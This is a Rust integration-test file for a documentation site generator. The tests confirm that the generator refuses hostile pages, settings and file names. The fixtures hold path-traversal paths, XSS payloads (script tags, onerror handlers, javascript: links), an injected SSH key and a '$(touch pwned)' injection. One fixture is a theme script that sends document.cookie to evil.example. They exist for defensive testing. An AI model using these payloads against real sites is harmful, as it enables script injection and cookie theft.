//! Every page, setting and file name is untrusted: many teams send pull
//! requests and CI builds them. These are the attacks (and the unlucky
//! mistakes) of that kind, each driven through the real binary: nothing
//! they write may make the tool write outside its output, delete what it
//! did not make, exhaust memory, hang, or run script for readers.

use crate::common;

use std::path::Path;

use common::{Finding, Fixture};

fn has(findings: &[Finding], code: &str, file: &str, line: u64) -> bool {
    findings
        .iter()
        .any(|f| f.code == code && f.file.ends_with(file) && f.line == line)
}

/// Files anywhere below `root` whose name contains `needle`.
fn files_named(root: &Path, needle: &str) -> Vec<String> {
    walkdir::WalkDir::new(root)
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_name().to_string_lossy().contains(needle))
        .map(|e| e.path().display().to_string())
        .collect()
}

#[test]
fn old_addresses_cannot_write_outside_the_output() {
    let site = Fixture::new();
    site.page("a", "Page A", "Ops", "Text.\n");
    site.write(
        "source/manual/b.html.md",
        "---\ntitle: Page B\nowner_slack: \"#team\"\nsection: Ops\nold_paths:\n  - /../../escaped-page.html\n  - /ok/%2e%2e/%2e%2e/escaped-encoded.html\n  - /ok/..%2f..%2fescaped-slash.html\n---\nB.\n",
    );
    site.write(
        "source/site.yml",
        "redirects:\n  /../escaped-setting.html: /manual/a.html\n  \"/evil.html\": \"/manual/a.html\\nssh-ed25519 AAAA attacker\"\n  /bad.html: \"java\\tscript:alert(1)\"\n",
    );
    let findings = site.check();
    assert!(
        has(&findings, "path-unsafe", "source/manual/b.html.md", 5),
        "{findings:#?}"
    );
    assert_eq!(
        findings
            .iter()
            .filter(|f| f.code == "path-unsafe" && f.file.ends_with("b.html.md"))
            .count(),
        3,
        "{findings:#?}"
    );
    assert!(
        has(&findings, "path-unsafe", "source/site.yml", 2),
        "{findings:#?}"
    );
    assert!(
        has(&findings, "redirect-unsafe", "source/site.yml", 3),
        "{findings:#?}"
    );
    assert!(
        has(&findings, "redirect-unsafe", "source/site.yml", 4),
        "{findings:#?}"
    );

    // The door is not a check that can be skipped.
    for args in [&[][..], &["--skip-check"][..]] {
        site.build(args).assert_failed();
        let above = site.dir.path().parent().unwrap();
        for name in ["escaped-page", "escaped-encoded", "escaped-slash"] {
            assert!(!above.join(format!("{name}.html")).exists(), "{name}");
            assert!(files_named(site.dir.path(), name).is_empty(), "{name}");
        }
        assert!(!site.dir.path().join("escaped-setting.html").exists());
        assert!(
            !site.path("build").exists(),
            "a failed build wrote its output"
        );
    }
}

#[test]
fn a_redirect_into_the_search_index_is_a_conflict() {
    let site = Fixture::new();
    site.write("source/site.yml", "enable_search: true\n");
    site.write(
        "source/manual/a.html.md",
        "---\ntitle: Page A\nowner_slack: \"#team\"\nsection: Ops\nold_paths: [/search/pages.json]\n---\nA.\n",
    );
    let findings = site.check();
    assert!(
        has(&findings, "url-conflict", "source/manual/a.html.md", 5),
        "{findings:#?}"
    );
    site.build(&["--skip-check"]).assert_failed();
}

#[test]
fn page_files_named_with_hash_question_mark_or_space_are_linked_encoded() {
    let site = Fixture::new();
    site.page("a b#c?d", "Odd name", "Ops", "Text.\n");
    site.page(
        "linker",
        "Linker",
        "Ops",
        "[odd](a%20b%23c%3Fd.html) [odd, absolute](/manual/a%20b%23c%3Fd.html#top)\n",
    );
    site.write("source/site.yml", "host: https://docs.example.org\n");
    let findings = site.check();
    assert!(
        findings.iter().all(|f| f.severity != "error"),
        "{findings:#?}"
    );
    site.build(&[]).assert_ok();
    assert!(site.path("build/manual/a b#c?d.html").is_file());
    let index = site.read("build/manual.html");
    assert!(
        index.contains("href=\"/manual/a%20b%23c%3Fd.html\""),
        "{index}"
    );
    assert!(!index.contains("href=\"/manual/a b"), "{index}");
    let pages: serde_json::Value =
        serde_json::from_str(&site.read("build/api/pages.json")).unwrap();
    assert!(
        pages.to_string().contains("/manual/a%20b%23c%3Fd.html"),
        "{pages}"
    );
    assert!(
        site.read("build/sitemap.xml")
            .contains("https://docs.example.org/manual/a%20b%23c%3Fd.html"),
    );
    let page = site.read("build/manual/linker.html");
    assert!(
        page.contains("href=\"/manual/a%20b%23c%3Fd.html\""),
        "the section list links it encoded: {page}"
    );
}

#[test]
fn a_file_name_with_a_control_character_or_backslash_is_refused() {
    let site = Fixture::new();
    site.page("good", "Good", "Ops", "Text.\n");
    site.page("new\nline", "Newline", "Ops", "Text.\n");
    site.write("source/manual/back\\slash.png", "png");
    let findings = site.check();
    let refused: Vec<_> = findings
        .iter()
        .filter(|f| f.code == "path-unsafe")
        .map(|f| f.file.clone())
        .collect();
    assert_eq!(refused.len(), 2, "{findings:#?}");
    site.build(&["--skip-check"]).assert_failed();
}

/// A project with a `.git` folder and a page, for the output-folder cases.
fn project() -> Fixture {
    let site = Fixture::new();
    site.page("a", "Page A", "Ops", "Text.\n");
    site.write(".git/HEAD", "ref: refs/heads/main\n");
    site
}

fn assert_project_intact(site: &Fixture) {
    assert!(
        site.path(".git/HEAD").is_file(),
        "the project's .git is gone"
    );
    assert!(
        site.path("source/manual/a.html.md").is_file(),
        "the source is gone"
    );
}

#[test]
fn the_output_folder_cannot_be_the_project_however_it_is_spelled() {
    let site = project();
    let name = site
        .dir
        .path()
        .file_name()
        .unwrap()
        .to_string_lossy()
        .into_owned();
    std::os::unix::fs::symlink(site.dir.path().parent().unwrap(), site.path("up")).unwrap();
    std::os::unix::fs::symlink(site.dir.path(), site.path("here")).unwrap();
    for out in [
        ".".to_string(),
        format!("../{name}"),
        format!("up/{name}"),
        "source/..".into(),
        "here".into(),
        "..".into(),
        "/".into(),
    ] {
        let run = site.build(&["--out", &out, "--force"]);
        run.assert_could_not_run()
            .assert_stderr_has("error[output-overlaps-input]");
        assert_project_intact(&site);
    }
}

#[test]
fn the_output_folder_cannot_hold_or_sit_inside_the_inputs() {
    let site = project();
    site.write("conf/site.yml", "service_name: Conf\n");
    std::fs::create_dir_all(site.path("real/proj")).unwrap();
    std::fs::rename(site.path("source"), site.path("real/proj/source")).unwrap();
    std::os::unix::fs::symlink(site.path("real/proj"), site.path("alias")).unwrap();
    let cases: [&[&str]; 5] = [
        // The source through a link, the output its real parent.
        &["--source", "alias/source", "--out", "real/proj"],
        // The settings file's folder.
        &[
            "--source",
            "alias/source",
            "--config",
            "conf/site.yml",
            "--out",
            "conf",
        ],
        // Inside the source: the site would be read back as input.
        &["--source", "alias/source", "--out", "real/proj/source/site"],
        &["--source", "alias/source", "--out", "alias/source/site"],
        // The layouts folder.
        &[
            "--source",
            "alias/source",
            "--out",
            "layouts",
            "--layouts",
            "layouts",
        ],
    ];
    std::fs::create_dir_all(site.path("layouts")).unwrap();
    for args in cases {
        let mut args = args.to_vec();
        args.push("--force");
        site.build(&args)
            .assert_could_not_run()
            .assert_stderr_has("error[output-overlaps-input]");
        assert!(
            site.path("real/proj/source/manual/a.html.md").is_file(),
            "{args:?}"
        );
        assert!(site.path("conf/site.yml").is_file(), "{args:?}");
        assert!(!site.path("real/proj/source/site").exists(), "{args:?}");
    }
    // The usual case still works: an output beside the source.
    site.build(&["--source", "alias/source", "--out", "real/proj/build"])
        .assert_ok();
}

#[test]
fn a_folder_of_other_files_is_replaced_only_with_force() {
    let site = project();
    site.write("elsewhere/notes.txt", "mine");
    let run = site.build(&["--out", "elsewhere"]);
    run.assert_could_not_run()
        .assert_stderr_has("error[output-not-ours]")
        .assert_stderr_has("--force");
    assert_eq!(site.read("elsewhere/notes.txt"), "mine");
    // An empty folder is fine, and once `manual` has made a folder it
    // replaces it without being asked again.
    std::fs::create_dir_all(site.path("empty")).unwrap();
    site.build(&["--out", "empty"]).assert_ok();
    site.build(&["--out", "empty"]).assert_ok();
    assert!(site.path("empty/manual.html").is_file());
    site.build(&["--out", "elsewhere", "--force"]).assert_ok();
    assert!(!site.path("elsewhere/notes.txt").exists());
    assert!(site.path("elsewhere/manual.html").is_file());
}

#[test]
fn the_output_folder_keeps_its_mode_and_group() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let site = project();
    site.build(&[]).assert_ok();
    let build = site.path("build");
    std::fs::set_permissions(&build, std::fs::Permissions::from_mode(0o2750)).unwrap();
    std::os::unix::fs::chown(&build, None, Some(100)).unwrap();
    site.build(&[]).assert_ok();
    let after = std::fs::metadata(&build).unwrap();
    assert_eq!(after.permissions().mode() & 0o7777, 0o2750);
    assert_eq!(after.gid(), 100);
}

#[test]
fn a_mount_point_is_published_into() {
    let site = project();
    // A private mount namespace: the tmpfs vanishes with the command.
    let script = format!(
        "set -e; mkdir -p out; mount -t tmpfs none out; echo old > out/old.txt; : > out/{marker}; \
         {bin} build --out out; \
         {bin} build --out out; \
         ls -A out; stat -c %m out",
        marker = ".manual-site",
        bin = env!("CARGO_BIN_EXE_manual"),
    );
    let output = std::process::Command::new("unshare")
        .env("XDG_CACHE_HOME", common::user_cache())
        .args(["--mount", "--map-root-user", "sh", "-c", &script])
        .current_dir(site.path(""))
        .output()
        .expect("unshare (util-linux) runs");
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{stdout}\n{stderr}");
    let listing: Vec<&str> = stdout.lines().collect();
    assert!(listing.contains(&"manual.html"), "{stdout}");
    assert!(!listing.contains(&"old.txt"), "{stdout}");
    assert!(
        !listing
            .iter()
            .any(|l| l.starts_with(".manual-old") || l.starts_with(".manual-staging")),
        "{stdout}"
    );
    assert!(
        stdout.trim_end().ends_with("/out"),
        "still a mount point: {stdout}"
    );
}

// ---- Script for readers -------------------------------------------------

#[test]
fn raw_html_that_runs_script_is_an_error_even_with_skip_check() {
    let site = Fixture::new();
    site.page(
        "a",
        "Page A",
        "Ops",
        "Intro.\n\n<script>steal()</script>\n\n<img src=\"/x.png\" onerror=\"steal()\">\n\n\
         <iframe srcdoc=\"&lt;script&gt;x&lt;/script&gt;\"></iframe>\n\n\
         <form action=\"javascript:steal()\"><button formaction=\"&#106avascript:x\">Go</button></form>\n\n\
         <object data=\"javascript:x\"></object>\n\n\
         <svg><a xlink:href=\"javascript:x\"><text>t</text></a></svg>\n\n\
         <meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">\n\n\
         [click](javascript:steal())\n",
    );
    let findings = site.check();
    let unsafe_lines: Vec<u64> = findings
        .iter()
        .filter(|f| f.code == "html-unsafe")
        .map(|f| f.line)
        .collect();
    // Front matter is 6 lines; the body starts on line 7.
    assert_eq!(
        unsafe_lines,
        [9, 11, 13, 15, 15, 17, 19, 21],
        "{findings:#?}"
    );
    assert!(
        has(&findings, "link-unsafe", "source/manual/a.html.md", 23),
        "{findings:#?}"
    );
    site.build(&["--skip-check"])
        .assert_failed()
        .assert_stderr_has("error[html-unsafe]");
    assert!(!site.path("build").exists());

    // A site that means to run script says so.
    site.write("source/site.yml", "allow_script: true\n");
    let findings = site.check();
    assert!(
        !findings
            .iter()
            .any(|f| f.code == "html-unsafe" || f.code == "link-unsafe"),
        "{findings:#?}"
    );
    site.build(&["--skip-check"]).assert_ok();
    assert!(
        site.read("build/manual/a.html")
            .contains("<script>steal()</script>")
    );
}

// ---- check says what readers will meet ----------------------------------

#[test]
fn email_autolinks_are_mailto_links_not_pages() {
    let site = Fixture::new();
    site.page("a", "Page A", "Ops", "Write to <team@example.gov.uk>.\n");
    let findings = site.check();
    assert!(
        findings.iter().all(|f| f.severity != "error"),
        "{findings:#?}"
    );
    site.build(&[]).assert_ok();
    assert!(
        site.read("build/manual/a.html")
            .contains("href=\"mailto:team@example.gov.uk\"")
    );
}

#[test]
fn ids_the_layouts_write_are_known_to_the_fragment_checker() {
    let site = Fixture::new();
    site.page(
        "a",
        "Page A",
        "Ops",
        "[skip](#main-content) [b's contents](/manual/b.html#main-content) [index](/manual.html#main-content) \
         [custom](/manual/b.html#only-in-custom) [missing](/manual/a.html#only-in-custom)\n",
    );
    site.write(
        "source/manual/b.html.md",
        "---\ntitle: Page B\nowner_slack: \"#team\"\nsection: Ops\nlayout: custom\n---\nB.\n",
    );
    let layouts = site.copy_layouts();
    std::fs::write(
        layouts.join("custom.html"),
        "{% extends \"page.html\" %}{% block body %}<div id=\"only-in-custom\">{{ content | safe }}</div>{% endblock body %}",
    )
    .unwrap();
    let run = site.run("check", &["--format", "json", "--layouts", "layouts"]);
    let findings = run.findings();
    let missing: Vec<&str> = findings
        .iter()
        .filter(|f| f.code == "link-fragment-missing")
        .map(|f| f.message.as_str())
        .collect();
    assert_eq!(missing.len(), 1, "{findings:#?}");
    assert!(missing[0].contains("only-in-custom"), "{missing:?}");
}

#[test]
fn identical_link_definitions_are_not_reported_but_different_ones_are() {
    let site = Fixture::new();
    site.page(
        "a",
        "Page A",
        "Ops",
        "[x][one] [y][two]\n\n[one]: /manual.html\n[one]: /manual.html\n[two]: /manual.html\n[two]: /manual/a.html\n",
    );
    let duplicates: Vec<u64> = site
        .check()
        .iter()
        .filter(|f| f.code == "link-definition-duplicate")
        .map(|f| f.line)
        .collect();
    assert_eq!(duplicates, [12]);
}

#[test]
fn breadcrumbs_and_check_resolve_parent_the_same_way() {
    let site = Fixture::new();
    site.page("b", "Page B", "Ops", "B.\n");
    site.write(
        "source/manual/a.html.md",
        "---\ntitle: Page A\nowner_slack: \"#team\"\nsection: Ops\nparent: b.html\n---\nA.\n",
    );
    site.write(
        "source/manual/c.html.md",
        "---\ntitle: Page C\nowner_slack: \"#team\"\nsection: Ops\nparent: manual/b.html\n---\nC.\n",
    );
    let findings = site.check();
    let parent_missing: Vec<&str> = findings
        .iter()
        .filter(|f| f.code == "parent-missing")
        .map(|f| f.file.as_str())
        .collect();
    assert_eq!(parent_missing, ["source/manual/c.html.md"], "{findings:#?}");
    site.build(&["--skip-check"]).assert_ok();
    let breadcrumbs = |page: &str| {
        let html = site.read(page);
        let start = html.find("aria-label=\"Breadcrumb\"").expect("breadcrumbs");
        html[start..start + html[start..].find("</nav>").unwrap()].to_string()
    };
    assert!(breadcrumbs("build/manual/a.html").contains("Page B"));
    assert!(!breadcrumbs("build/manual/c.html").contains("Page B"));
}

#[test]
fn a_redirect_loop_is_an_error() {
    let site = Fixture::new();
    site.page("a", "Page A", "Ops", "A.\n");
    site.write(
        "source/site.yml",
        "redirects:\n  /one.html: /two.html\n  /two.html: /three.html\n  /three.html: /one.html\n  /four.html: /one.html\n",
    );
    let findings = site.check();
    let loops: Vec<&Finding> = findings
        .iter()
        .filter(|f| f.code == "redirect-loop")
        .collect();
    assert_eq!(loops.len(), 1, "{findings:#?}");
    assert_eq!(loops[0].line, 2);
    assert!(
        loops[0]
            .message
            .contains("/one.html -> /two.html -> /three.html -> /one.html")
    );
}

#[test]
fn an_unquoted_root_relative_address_in_raw_html_gets_the_base_path() {
    let site = Fixture::new();
    site.write("source/site.yml", "base_path: /docs\n");
    site.page("b", "Page B", "Ops", "B.\n");
    site.page(
        "a",
        "Page A",
        "Ops",
        "<a href=/manual/b.html>b</a> <img src=/manual/x.png alt=x>\n\n```html\n<a href=/not/rewritten>code</a>\n```\n",
    );
    site.write("source/manual/x.png", "png");
    let findings = site.check();
    assert!(
        findings.iter().all(|f| f.severity != "error"),
        "{findings:#?}"
    );
    site.build(&[]).assert_ok();
    let html = site.read("build/manual/a.html");
    assert!(html.contains("<a href=/docs/manual/b.html>b</a>"), "{html}");
    assert!(
        html.contains("<img src=/docs/manual/x.png alt=x>"),
        "{html}"
    );
    assert!(
        !html.contains("/docs/not/rewritten"),
        "code is never rewritten: {html}"
    );
    assert!(html.contains("not/rewritten"), "{html}");
}

// ---- owners, pipes and the link cache -----------------------------------

#[test]
fn owners_lists_pages_it_could_not_read_and_fails() {
    let site = Fixture::new();
    site.page("a", "Page A", "Ops", "A.\n");
    site.write(
        "source/manual/broken.html.md",
        "---\ntitle: [unclosed\n---\nB.\n",
    );
    let run = site.run("owners", &[]);
    assert_eq!(run.0.status.code(), Some(1), "{}", run.stderr());
    assert!(
        run.stdout().contains("source/manual/broken.html.md"),
        "{}",
        run.stdout()
    );
    let run = site.run("owners", &["--format", "json"]);
    assert_eq!(run.0.status.code(), Some(1));
    let report: serde_json::Value = serde_json::from_str(&run.stdout()).unwrap();
    assert_eq!(
        report["unreadable"][0]["source"],
        "source/manual/broken.html.md"
    );
}

/// Runs `manual ARGS` with its output going to a pipe that is already
/// closed, as `manual ARGS | head -0` does.
fn with_closed_stdout(site: &Fixture, args: &[&str], stderr_too: bool) -> std::process::Output {
    use std::process::Stdio;
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    let writer_err = writer.try_clone().unwrap();
    let mut command = common::manual();
    command
        .args(args)
        .current_dir(site.path(""))
        .stdout(Stdio::from(writer));
    if stderr_too {
        command.stderr(Stdio::from(writer_err));
    } else {
        command.stderr(Stdio::piped());
    }
    command.output().unwrap()
}

#[test]
fn a_closed_output_pipe_ends_quietly_with_the_usual_status() {
    let site = Fixture::new();
    site.page("a", "Page A", "Ops", "[gone](/nowhere.html)\n");
    // check: errors found, so 1, as without the pipe.
    let check = with_closed_stdout(&site, &["check", "--format", "json"], false);
    assert_eq!(
        check.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&check.stderr)
    );
    assert!(!String::from_utf8_lossy(&check.stderr).contains("panicked"));
    let owners = with_closed_stdout(&site, &["owners"], false);
    assert_eq!(
        owners.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&owners.stderr)
    );
    assert!(!String::from_utf8_lossy(&owners.stderr).contains("panicked"));
    // build with both streams closed still publishes.
    let build = with_closed_stdout(&site, &["build", "--skip-check"], true);
    assert_eq!(build.status.code(), Some(0));
    assert!(site.path("build/manual/a.html").is_file());
    // Every other command that writes to standard output.
    for args in [
        &["completions", "bash"][..],
        &["completions", "zsh"],
        &["--help"],
        &["check", "--format", "sarif"],
        &["owners", "--format", "json"],
    ] {
        let run = with_closed_stdout(&site, args, false);
        let stderr = String::from_utf8_lossy(&run.stderr);
        assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
        assert_ne!(run.status.code(), Some(101), "{args:?}: {stderr}");
    }
}

#[test]
fn the_link_cache_cannot_name_a_file_outside_the_project() {
    let site = Fixture::new();
    site.page("a", "Page A", "Ops", "A.\n");
    for bad in ["/tmp/evil.json", "../evil.json", "cache/../../evil.json"] {
        site.write(
            "source/site.yml",
            format!("external_links:\n  cache_file: {bad}\n"),
        );
        let run = site.run("check", &[]);
        assert_eq!(run.0.status.code(), Some(2), "{bad}: {}", run.stderr());
        assert!(
            run.stderr()
                .contains("source/site.yml:2:3: error[settings-invalid]"),
            "{}",
            run.stderr()
        );
    }
}

#[test]
fn settings_written_into_every_page_are_refused_when_unsafe() {
    let site = Fixture::new();
    site.page("a", "Page A", "Ops", "<a href='/manual/a.html'>a</a>\n");
    for (settings, line) in [
        ("base_path: \"/a'onmouseover='alert(1)\"\n", 1),
        ("base_path: \"/a\\u0001b\"\n", 1),
        ("service_name: X\nhost: \"javascript:alert(1)\"\n", 2),
        ("host: \"https://docs.example.org\\nDisallow: /\"\n", 1),
        ("host: https://docs.example.org/?q=1\n", 1),
        ("github_repo: \"x/y\\\" onmouseover=\\\"z\"\n", 1),
    ] {
        site.write("source/site.yml", settings);
        let run = site.run("check", &[]);
        assert_eq!(run.0.status.code(), Some(2), "{settings}: {}", run.stderr());
        assert!(
            run.stderr().contains(&format!("source/site.yml:{line}")),
            "{settings}: {}",
            run.stderr()
        );
        assert!(
            run.stderr().contains("settings-invalid"),
            "{}",
            run.stderr()
        );
    }
    // A project site on GitHub Pages has a path in its host.
    site.write(
        "source/site.yml",
        "host: https://example.github.io/project\n",
    );
    site.build(&[]).assert_ok();
}

#[test]
fn script_in_heading_attributes_and_in_html_or_svg_assets_is_refused() {
    let site = Fixture::new();
    site.page(
        "a",
        "Page A",
        "Ops",
        "## Title {onclick=alert(1)}\n\nText.\n",
    );
    site.write(
        "source/manual/raw.html",
        "<p>Hi</p>\n<script>steal()</script>\n",
    );
    site.write(
        "source/manual/images/diagram.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\">\n<rect onload=\"steal()\"/>\n</svg>\n",
    );
    site.write("source/manual/images/plain.svg", "<svg><rect/></svg>\n");
    let findings = site.check();
    assert!(
        has(&findings, "html-unsafe", "source/manual/a.html.md", 7),
        "{findings:#?}"
    );
    assert!(
        has(&findings, "html-unsafe", "source/manual/raw.html", 2),
        "{findings:#?}"
    );
    assert!(
        has(
            &findings,
            "html-unsafe",
            "source/manual/images/diagram.svg",
            2
        ),
        "{findings:#?}"
    );
    assert!(
        !findings.iter().any(|f| f.file.ends_with("plain.svg")),
        "{findings:#?}"
    );
    site.build(&["--skip-check"]).assert_failed();
    site.write("source/site.yml", "allow_script: true\n");
    site.build(&["--skip-check"]).assert_ok();
}

#[test]
fn a_settings_file_linked_to_outside_the_project_is_not_read() {
    let site = project();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.yml"), "password: [hunter2\n").unwrap();
    std::os::unix::fs::symlink(
        outside.path().join("secret.yml"),
        site.path("source/site.yml"),
    )
    .unwrap();
    let run = site.run("check", &[]);
    assert_eq!(run.0.status.code(), Some(2), "{}", run.stderr());
    assert!(
        run.stderr().contains("error[source-link-outside]"),
        "{}",
        run.stderr()
    );
    assert!(
        !run.stderr().contains("hunter2"),
        "a line of the outside file was shown"
    );
}

#[test]
fn the_projects_git_history_is_never_the_output() {
    let site = project();
    site.build(&["--out", ".git", "--force"])
        .assert_could_not_run()
        .assert_stderr_has("error[output-overlaps-input]");
    site.build(&["--out", ".git/site", "--force"])
        .assert_could_not_run()
        .assert_stderr_has("error[output-overlaps-input]");
    assert_project_intact(&site);
}

// Issue 19: every write goes through one door, script is checked on what is
// published, and addresses that reach an attribute pass one rule.

/// Runs `manual args` in the fixture as typed, with no added flags.
fn manual_in(site: &Fixture, args: &[&str]) -> common::Run {
    let mut command = common::manual_cmd();
    command.current_dir(site.dir.path()).args(args);
    common::Run(command.output().unwrap())
}

/// A folder outside the fixture, with a file the tests check is untouched.
fn outside_folder() -> tempfile::TempDir {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("keep"), "theirs").unwrap();
    outside
}

#[test]
fn the_link_cache_is_never_written_through_a_linked_folder() {
    let site = Fixture::new();
    let outside = outside_folder();
    std::os::unix::fs::symlink(outside.path(), site.path("h")).unwrap();
    site.write(
        "source/site.yml",
        "external_links:\n  cache_file: h/.bashrc\n  retries: 0\n  timeout_seconds: 1\n",
    );
    site.page(
        "a",
        "Page A",
        "Ops",
        "[x](http://127.0.0.1:9/$(touch%20pwned))\n",
    );
    let run = site.run("check", &["--external"]);
    assert!(
        !outside.path().join(".bashrc").exists(),
        "wrote through the link: {}",
        run.stderr()
    );
    assert!(
        run.stderr().contains("external-cache"),
        "the refused write is reported: {}",
        run.stderr()
    );
}

#[test]
fn check_external_requests_no_private_address_unless_allowed() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let site = Fixture::new();
    site.write(
        "source/site.yml",
        "external_links:\n  retries: 0\n  timeout_seconds: 1\n",
    );
    site.page(
        "a",
        "Page A",
        "Ops",
        &format!("[x](http://127.0.0.1:{port}/) [y](http://localhost:{port}/)\n"),
    );
    let run = site.run("check", &["--external", "--format", "json"]);
    assert!(
        listener.accept().is_err(),
        "a private address was requested"
    );
    let refused: Vec<_> = run
        .findings()
        .into_iter()
        .filter(|f| f.code == "link-external-unreachable" && f.message.contains("private"))
        .collect();
    assert_eq!(refused.len(), 2, "{}", run.stdout());
}

#[test]
fn script_made_by_an_erb_layout_around_the_page_is_refused() {
    let site = Fixture::new();
    site.write("config/tech-docs.yml", "service_name: Split\n");
    // Neither half runs script alone; the published page would.
    site.write(
        "source/layouts/split.erb",
        "<% wrap_layout :layout do %><scr<%= yield %>ipt>alert(1)</scr<%= yield %>ipt><% end %>",
    );
    site.write(
        "source/index.html.md",
        "---\ntitle: Home\nlayout: split\n---\n",
    );
    let run = site.build(&["--skip-check"]);
    assert_eq!(run.0.status.code(), Some(1), "{}", run.stderr());
    run.assert_stderr_has("html-unsafe");
    assert!(!site.path("build").exists(), "nothing is published");
}

#[test]
fn script_in_theme_overrides_and_a_replaced_theme_script_are_refused() {
    let site = Fixture::new();
    site.write("source/site.yml", "enable_search: true\n");
    site.page("a", "Page A", "Ops", "Text.\n");
    // The whole theme, exported as it is, builds.
    manual_in(&site, &["theme", "export"]).assert_ok();
    site.build(&[]).assert_ok();

    site.write(
        "layouts/_page_title.html",
        "<h1 onclick=\"x()\">{{ page.title }}</h1>\n",
    );
    site.build(&[])
        .assert_failed()
        .assert_stderr_has("html-unsafe");
    manual_in(&site, &["theme", "export", "--force"]).assert_ok();

    site.write(
        "layouts/assets/logo.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"x()\"/>",
    );
    site.build(&[])
        .assert_failed()
        .assert_stderr_has("layouts/assets/logo.svg");
    std::fs::remove_file(site.path("layouts/assets/logo.svg")).unwrap();

    // Replaced, it is an error even where no page loads it.
    site.write("source/site.yml", "enable_search: false\n");
    site.write(
        "layouts/assets/search.js",
        "fetch('https://evil.example/?'+document.cookie)\n",
    );
    site.build(&[])
        .assert_failed()
        .assert_stderr_has("layouts/assets/search.js");
    site.write("source/site.yml", "enable_search: true\n");
    let run = site.build(&[]);
    run.assert_failed().assert_stderr_has("html-unsafe");
    assert!(run.stderr().contains("search"), "{}", run.stderr());

    site.write(
        "source/site.yml",
        "enable_search: true\nallow_script: true\n",
    );
    site.build(&[]).assert_ok();
}

#[test]
fn a_source_url_that_is_not_a_web_address_is_refused_at_its_line() {
    let site = Fixture::new();
    for bad in [
        "javascript:alert(1)",
        "data:text/html,x",
        "\" javascript:x\"",
    ] {
        site.write(
            "source/manual/a.html.md",
            format!("---\ntitle: A\nowner_slack: \"#t\"\nsection: S\nsource_url: {bad}\n---\nA.\n"),
        );
        let run = site.build(&["--skip-check"]);
        assert!(!run.success(), "{bad}");
        run.assert_stderr_has("source/manual/a.html.md:5");
    }
    site.write(
        "source/site.yml",
        "header_links:\n  Home: \"javascript:alert(1)\"\n",
    );
    site.write("source/manual/a.html.md", "---\ntitle: A\n---\nA.\n");
    site.build(&["--skip-check"])
        .assert_failed()
        .assert_stderr_has("source/site.yml:2:3: error[link-unsafe]");
    site.write(
        "source/site.yml",
        "footer_links:\n  Files: \"file:///etc/passwd\"\n",
    );
    site.build(&["--skip-check"])
        .assert_failed()
        .assert_stderr_has("source/site.yml:2:3: error[link-unsafe]");
    site.write("source/site.yml", "service_link: \"data:text/html,x\"\n");
    site.build(&["--skip-check"])
        .assert_could_not_run()
        .assert_stderr_has("settings-invalid");
}

#[test]
fn a_cache_folder_of_the_users_is_neither_pruned_nor_marked() {
    let site = Fixture::new();
    site.page("a", "Page A", "Ops", "```bash\necho hi\n```\n");
    let theirs = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(theirs.path().join("highlight-photos")).unwrap();
    std::fs::write(theirs.path().join("highlight-photos/1.jpg"), "jpeg").unwrap();
    let cache = theirs.path().to_str().unwrap();
    let run = site.build(&["--cache-dir", cache]);
    run.assert_ok();
    assert!(theirs.path().join("highlight-photos/1.jpg").exists());
    assert!(!theirs.path().join(".gitignore").exists());
    run.assert_stderr_has("did not make");
    // A new folder becomes manual's, and is used.
    let new = theirs.path().join("cache");
    site.build(&["--cache-dir", new.to_str().unwrap()])
        .assert_ok();
    assert!(new.join("CACHEDIR.TAG").is_file());
}

#[test]
fn write_baseline_replaces_only_a_baseline() {
    let site = Fixture::new();
    site.page("a", "Page A", "Ops", "[x](/missing.html)\n");
    let page = site.read("source/manual/a.html.md");
    for target in ["source/manual/a.html.md", "README.md"] {
        site.write("README.md", "# Ours\n");
        let run = site.run("check", &["--write-baseline", target]);
        assert_eq!(run.0.status.code(), Some(2), "{target}: {}", run.stderr());
    }
    assert_eq!(site.read("source/manual/a.html.md"), page);
    assert_eq!(site.read("README.md"), "# Ours\n");
    let outside = outside_folder();
    std::os::unix::fs::symlink(outside.path().join("keep"), site.path("linked.json")).unwrap();
    let run = site.run("check", &["--write-baseline", "linked.json"]);
    assert_eq!(run.0.status.code(), Some(2), "{}", run.stderr());
    assert_eq!(
        std::fs::read_to_string(outside.path().join("keep")).unwrap(),
        "theirs"
    );
    // A new baseline, and then the same one again, are written.
    site.run("check", &["--write-baseline", "ci/baseline.json"])
        .assert_ok();
    site.run("check", &["--write-baseline", "ci/baseline.json"])
        .assert_ok();
}

#[test]
fn init_and_theme_export_never_write_through_a_link() {
    let outside = outside_folder();
    let site = Fixture::new();
    std::os::unix::fs::symlink(outside.path().join("keep"), site.path("site.yml")).unwrap();
    let run = manual_in(&site, &["init", ".", "--force"]);
    assert_eq!(run.0.status.code(), Some(2), "{}", run.stderr());
    run.assert_stderr_has("symbolic link");
    assert_eq!(
        std::fs::read_to_string(outside.path().join("keep")).unwrap(),
        "theirs"
    );

    std::fs::create_dir_all(site.path("layouts")).unwrap();
    std::os::unix::fs::symlink(outside.path(), site.path("layouts/assets")).unwrap();
    let run = manual_in(&site, &["theme", "export", "--force"]);
    assert_eq!(run.0.status.code(), Some(2), "{}", run.stderr());
    run.assert_stderr_has("symbolic link");
    assert!(!outside.path().join("search.js").exists());
}

#[test]
fn an_old_path_that_names_a_folder_of_the_site_is_a_conflict_in_check() {
    let site = Fixture::new();
    site.write(
        "source/manual/a.html.md",
        "---\ntitle: A\nowner_slack: \"#t\"\nsection: S\nold_paths:\n  - /manual\n---\nA.\n",
    );
    let findings = site.check();
    assert!(
        findings.iter().any(|f| f.code == "url-conflict"
            && f.file == "source/manual/a.html.md"
            && f.message.contains("folder")),
        "{findings:?}"
    );
    site.build(&["--skip-check"]).assert_failed();
}
